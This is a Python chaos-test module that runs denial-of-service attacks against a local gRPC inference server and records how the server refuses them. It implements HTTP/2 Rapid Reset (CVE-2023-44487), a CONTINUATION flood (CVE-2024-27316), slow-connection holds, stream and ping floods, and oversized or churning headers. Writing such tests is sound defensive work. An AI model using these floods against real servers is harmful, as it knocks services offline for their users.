"""Clients that mean harm, for some seconds each: `python -m tests.chaos.floods <attack> <port> <seconds>`.

Each is run in a process of its own and ends by printing what it did and what came back, as JSON: how many it "sent" of
what it sends, "refused" (streams that the server reset), "closed" (connections that it ended); by error codes, too.
"""

import collections
import itertools
import json
import os
import socket
import sys
import time
from collections.abc import Callable, Iterator

from tests import http2
from tests.http2 import Connection, grpc_fields, request

HOT = b"/inference.GRPCInferenceService/ModelInfer"
COLD = b"/inference.GRPCInferenceService/ServerReady"
SLOW_CONNECTIONS = 200
# More than a connection of either port may have.
STREAMS = 1500
# Requests that are answered, and so cost a worker's time, are sent by a client that waits for answers: what more of
# them than fit does is tested elsewhere (test_overload.py).
WINDOW = 32
# Above every limit of either port, at once or by number.
LARGE_BYTES, MANY_NAMES = 45_000, 1200
# Together more than a process may grow by.
UNHEARD_BYTES, UNHEARD_STREAMS = 1_000_000, 400
Tally = collections.Counter[str]
Attack = Callable[[int, float], Tally]


def take(connection: Connection, tally: Tally, seconds: float = 0.0) -> int:
    """Count what has come back; how many streams have ended."""
    ended = 0
    for each in connection.frames(seconds):
        if each.kind == http2.GOAWAY:
            tally[f"goaway {each.code}"] += 1
        elif each.kind == http2.RST_STREAM:
            ended += 1
            tally["refused"] += 1
            tally[f"reset {each.code}"] += 1
        elif each.kind == http2.HEADERS and each.flags & http2.END_STREAM:
            ended += 1
            status = http2.literals(each.payload).get(b"grpc-status", b"?").decode()
            tally[f"status {status}"] += 1
    return ended


def connections(port: int, until_s: float, tally: Tally) -> Iterator[Connection]:
    """One after the other, as the server closes them, until time is up."""
    while time.monotonic() < until_s:
        with Connection(port, timeout=5.0) as connection:
            connection.settle()
            tally["connections"] += 1
            yield connection
            tally["closed"] += connection.closed


def flood(port: int, seconds: float, chunk_of: Callable[[Connection], bytes], each: int) -> Tally:
    """Send chunks of `each` things as fast as they are taken, reading what comes."""
    tally, until_s = Tally(), time.monotonic() + seconds
    for connection in connections(port, until_s, tally):
        while time.monotonic() < until_s and connection.send(chunk_of(connection)):
            tally["sent"] += each
            take(connection, tally)
        take(connection, tally, 0.2)
    return tally


# --- slowly ---


def slow_rest(port: int, seconds: float) -> Tally:
    """HTTP/1.1 headers of which a byte comes now and then, and bodies that don't come."""
    tally, until_s = Tally(), time.monotonic() + seconds
    head = b"POST /predict HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    sockets = [socket.create_connection(("127.0.0.1", port), 5) for _ in range(SLOW_CONNECTIONS)]
    for index, each in enumerate(sockets):
        each.sendall(head if index % 2 else head + b"Content-Length: 1000\r\n\r\n{")
        tally["connections"] += 1
    while time.monotonic() < until_s:
        for each in list(sockets):
            try:
                each.sendall(b"x")
                tally["sent"] += 1
            except OSError:
                tally["closed"] += 1
                sockets.remove(each)
        time.sleep(0.2)
    return tally


def slow_streams(port: int, seconds: float) -> Tally:
    """HTTP/2 connections with nothing but a preface, with half a message, and without any."""
    return _hold(port, seconds, HOT)


def slow_cold_streams(port: int, seconds: float) -> Tally:
    """The same, of a method that a thread serves."""
    return _hold(port, seconds, COLD)


def _hold(port: int, seconds: float, path: bytes) -> Tally:
    tally, until_s = Tally(), time.monotonic() + seconds
    held = [Connection(port, timeout=5.0) for _ in range(SLOW_CONNECTIONS)]
    for index, connection in enumerate(held):
        tally["connections"] += 1
        if index % 4:
            stream = connection.new_stream()
            half = http2.frame(http2.DATA, 0, stream, b"\0\0\0") if index % 4 == 1 else b""
            tally["sent"] += connection.send(request(stream, grpc_fields(path)) + half)
    while time.monotonic() < until_s:
        for connection in held:
            take(connection, tally)
        time.sleep(0.1)
    tally["closed"] = sum(connection.closed for connection in held)
    return tally


# --- fast ---


def rapid_reset(port: int, seconds: float) -> Tally:
    """CVE-2023-44487: streams that end as they begin."""
    content, times = http2.block(grpc_fields(HOT)), 100

    def chunk(connection: Connection) -> bytes:
        streams = [connection.new_stream() for _ in range(times)]
        flags = http2.END_HEADERS
        return b"".join(http2.frame(http2.HEADERS, flags, each, content) + http2.reset(each) for each in streams)

    return flood(port, seconds, chunk, times)


def streams(port: int, seconds: float) -> Tally:
    """More streams than a connection may have, held open, on some connections; new ones all the time."""
    tally, until_s = Tally(), time.monotonic() + seconds
    fields = grpc_fields(HOT)
    for held in connections(port, until_s, tally):
        for _ in range(STREAMS):
            tally["sent"] += held.send(request(held.new_stream(), fields))
        while time.monotonic() < until_s and not held.closed:
            take(held, tally, 0.01)
            tally["sent"] += sum(held.send(request(held.new_stream(), fields)) for _ in range(10))
    return tally


def pings(port: int, seconds: float) -> Tally:
    """Pings and settings, each of which wants an answer."""
    turn = http2.frame(http2.PING, 0, 0, b"12345678") + http2.settings((http2.HEADER_TABLE_SIZE, 0))
    return flood(port, seconds, lambda _: turn * 100, 200)


# --- headers ---


def large_headers(port: int, seconds: float) -> Tally:
    """Requests with more headers, in bytes or in number, than are taken."""
    large = [(b"x-large", b"a" * LARGE_BYTES)]
    many = [(b"x-%d" % number, b"a" * 20) for number in range(MANY_NAMES)]
    tally, until_s = Tally(), time.monotonic() + seconds
    for connection in connections(port, until_s, tally):
        due = 0
        for more in itertools.cycle((large, many)):
            sent = request(connection.new_stream(), grpc_fields(HOT, *more))
            if time.monotonic() > until_s or not connection.send(sent):
                break
            tally["sent"] += 1
            due += 1 - take(connection, tally, 0.1 if due >= WINDOW else 0.0)
        # grpc takes up to a second for such refusals, on purpose.
        take(connection, tally, 1.2)
    return tally


def large_headers_http1(port: int, seconds: float) -> Tally:
    """The same for HTTP/1.1, with the statuses that came."""
    tally, until_s = Tally(), time.monotonic() + seconds
    large = b"X-Large: " + b"a" * LARGE_BYTES + b"\r\n"
    many = b"".join(b"X-%d: a\r\n" % number for number in range(MANY_NAMES))
    for more in itertools.cycle((large, many)):
        if time.monotonic() > until_s:
            return tally
        with socket.create_connection(("127.0.0.1", port), 5) as connection:
            connection.sendall(b"GET /health HTTP/1.1\r\nHost: localhost\r\n" + more + b"\r\n")
            status = connection.recv(1 << 16).split()[1].decode()
        tally["sent"] += 1
        tally["refused"] += status == "431"
        tally[f"status {status}"] += 1
    return tally


def continuation(port: int, seconds: float) -> Tally:
    """CVE-2024-27316 and its like: a header block without an end."""
    tally, until_s = Tally(), time.monotonic() + seconds
    content = http2.block([(b"x-%d" % number, b"a" * 100) for number in range(140)])
    kinds = itertools.cycle((http2.block(grpc_fields(HOT)), b""))
    for connection, first in zip(connections(port, until_s, tally), kinds, strict=False):
        stream = connection.new_stream()
        connection.send(http2.frame(http2.HEADERS, 0, stream, first))
        # With fields, then with nothing at all in the frames.
        piece = http2.frame(http2.CONTINUATION, 0, stream, content if first else b"")
        bound_s = min(until_s, time.monotonic() + seconds / 2)
        while time.monotonic() < bound_s and connection.send(piece):
            tally["sent"] += 1
            take(connection, tally)
        take(connection, tally, 0.2)
    return tally


def names(port: int, seconds: float) -> Tally:
    """Good requests, each with names that nobody has seen yet, which go through the header table."""
    tally, until_s = Tally(), time.monotonic() + seconds
    numbers = itertools.count()
    content = _good_request()
    for connection in connections(port, until_s, tally):
        due = 0
        while time.monotonic() < until_s and not connection.closed:
            while due < WINDOW:
                stream = connection.new_stream()
                more = [(b"x-%d" % next(numbers), b"a") for _ in range(60)]
                sent = request(stream, grpc_fields(HOT, *more), keep=True) + http2.message(stream, content)
                tally["sent"] += connection.send(sent)
                due += 1
            due -= take(connection, tally, 0.05)
        take(connection, tally, 0.2)
    return tally


def _good_request() -> bytes:
    from tests.chaos.ledger import request_of, rows_of

    return request_of("counts_i64", 1, rows_of(1, 1)).SerializeToString()


def large_headers_unacknowledged(port: int, seconds: float) -> Tally:
    """Large headers on streams that stay open, by a client that hasn't heard of the limit, it says."""
    tally, until_s = Tally(), time.monotonic() + seconds
    fields = grpc_fields(HOT, (b"x-large", b"a" * UNHEARD_BYTES))
    with Connection(port, acknowledges=False) as connection:
        for _ in range(UNHEARD_STREAMS):
            tally["sent"] += connection.send(request(connection.new_stream(), fields))
        while time.monotonic() < until_s and not connection.closed:
            take(connection, tally, 0.1)
        tally["closed"] += connection.closed
    return tally


ATTACKS: dict[str, Attack] = {
    each.__name__: each
    for each in (
        slow_rest,
        slow_streams,
        slow_cold_streams,
        rapid_reset,
        streams,
        pings,
        large_headers,
        large_headers_http1,
        large_headers_unacknowledged,
        continuation,
        names,
    )
}


if __name__ == "__main__":
    # It uses the server's processors, which no real one could.
    os.nice(10)
    print(json.dumps(ATTACKS[sys.argv[1]](int(sys.argv[2]), float(sys.argv[3]))))
